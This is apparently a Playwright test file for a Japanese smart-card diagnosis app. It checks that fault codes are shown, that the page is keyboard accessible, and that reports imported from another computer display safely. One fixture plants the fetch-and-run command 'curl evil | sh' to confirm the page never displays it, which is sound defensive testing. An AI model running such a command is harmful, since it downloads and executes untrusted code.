import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expectAccessible } from '../fixtures/accessibility.ts';
import { startSample } from '../fixtures/start-sample.ts';
import { expect, test } from '../fixtures/test.ts';
import { ja } from '../../src/shared/messages/ja.ts';
import { page as say } from '../../src/shared/messages/ja/doctor/page.ts';

const SAMPLES = [
  ['no-service', /L4-\d/],
  ['no-reader', /L1-1|L7-1/],
  ['no-card', /L8-1/],
  ['card-not-answering', /L9-1/],
  ['card-in-use', /L9-2/],
  ['other-card', /L10-1/],
  ['juki', /L10-2/],
  ['expired', /L12-2/],
  ['authentication-locked', /L12-4/],
] as const;

test('the check is opened by keyboard from every trouble, and names the one layer that stops the card', async ({
  start,
}) => {
  test.slow();
  const { window } = await start({ sample: 'adult' });
  const verdict = window.getByRole('status').filter({ hasText: '番号：' });
  for (const [sample, code] of SAMPLES) {
    await startSample(window, sample);
    await window.getByRole('button', { name: ja.home.entries.doctor }).focus();
    await window.keyboard.press('Enter');
    await expect(verdict).toContainText(code);
    await expect(window.getByRole('heading', { name: say.title, level: 1 })).toBeFocused();
    await window.getByRole('button', { name: ja.common.actions.back }).click();
  }
  await startSample(window, 'adult');
  await window.getByRole('button', { name: ja.home.entries.doctor }).click();
  await expect(window.getByText(say.whole)).toBeVisible();
  await expectAccessible(window);
});

test('a report is read before it is saved, and one of another computer is shown on the same page', async ({
  start,
}) => {
  const { profile, window } = await start({ sample: 'no-card' });
  await window.getByRole('button', { name: ja.home.entries.doctor }).click();
  await window.getByText(say.report.show).click();
  const text = await window.getByLabel(say.report.title).innerText();
  expect(text).toContain('[L8-1]');
  expect(text).not.toMatch(/\/home\/|\/root/);

  const answer = await window.evaluate(() => globalThis.window.shomei.doctor.run());
  if (!answer.ok) throw new Error('no report');
  const other = {
    ...answer.value,
    system: { ...answer.value.system, name: 'Another Linux', packageTool: 'dnf' },
  };
  const findings = other.findings.map((each) =>
    each.layer === 'service' ? { ...each, state: 'broken', code: 'L4-1' } : each,
  );
  const path = join(profile, 'report-of-another.json');
  writeFileSync(path, JSON.stringify({ ...other, findings, broken: { command: 'curl evil | sh' } }));
  await window.locator('input[type=file]').setInputFiles(path);
  await expect(window.getByText(say.report.ofAnother('Another Linux'))).toBeVisible();
  await expect(window.getByText('sudo dnf install pcsc-lite', { exact: false }).first()).toBeVisible();
  expect(await window.locator('body').innerText()).not.toContain('curl');
});
